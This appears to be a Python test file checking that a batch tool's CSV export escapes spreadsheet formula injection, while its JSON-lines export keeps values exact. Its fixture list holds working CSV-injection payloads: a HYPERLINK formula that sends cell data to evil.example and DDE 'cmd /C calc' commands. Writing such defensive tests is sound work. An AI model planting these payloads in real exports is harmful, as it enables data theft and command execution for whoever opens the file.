"""CSV export against formula injection (OWASP "CSV Injection"): a cell that starts
with = + - @, a tab, a carriage return, a line feed or NUL gets a leading quote; the
JSON lines export keeps every value exact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from batchgen.report.export import write_export
from tests.support.engine import bid, make_batch

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
]
HARMLESS = ["a fox - at dawn", "'quoted already", "\u2212minus sign", "plain = sign later"]


def test_csv_cells_that_start_a_formula_get_a_leading_quote(tmp_path: Path) -> None:
    prompts = DANGEROUS + HARMLESS
    inputs = [{"prompt": p, "style": p} for p in prompts]
    db, batch = make_batch(tmp_path / "s.db", inputs, tmp_path / "out", name="=evil")
    out = io.StringIO(newline="")
    assert write_export(db, bid(batch), "csv", out) == len(prompts)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [r["prompt"] for r in rows] == ["'" + p for p in DANGEROUS] + HARMLESS
    assert [r["input.style"] for r in rows] == [r["prompt"] for r in rows]
    assert all(r["batch"] == "'=evil" for r in rows)
    # no cell of the file starts with a formula character, whatever column it is in
    for row in csv.reader(io.StringIO(out.getvalue(), newline="")):
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\0") for cell in row)


def test_jsonl_keeps_every_value_exact(tmp_path: Path) -> None:
    inputs = [{"prompt": p} for p in DANGEROUS + HARMLESS]
    db, batch = make_batch(tmp_path / "s.db", inputs, tmp_path / "out", name="=evil")
    out = io.StringIO()
    write_export(db, bid(batch), "jsonl", out)
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["prompt"] for r in records] == DANGEROUS + HARMLESS
    assert [r["input"]["prompt"] for r in records] == DANGEROUS + HARMLESS
    assert {r["batch"] for r in records} == {"=evil"}
